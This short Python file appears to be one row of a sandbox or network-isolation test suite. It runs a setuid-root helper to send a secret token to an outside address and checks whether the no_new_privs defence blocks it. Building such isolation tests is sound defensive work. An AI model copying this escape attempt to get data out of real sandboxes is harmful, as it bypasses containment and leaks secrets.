# SPDX-License-Identifier: GPL-2.0-or-later
# row: B2
# what: a setuid-root program that makes the socket
# defences: no_new_privs
import subprocess

from attempt import TOKEN, WORLD4

# The runner made it: a setuid-root program that sends what it is told, as old ping and mount helpers do.
subprocess.run(["/usr/local/lib/atlas/setuid-send", WORLD4, TOKEN.decode()], check=False)
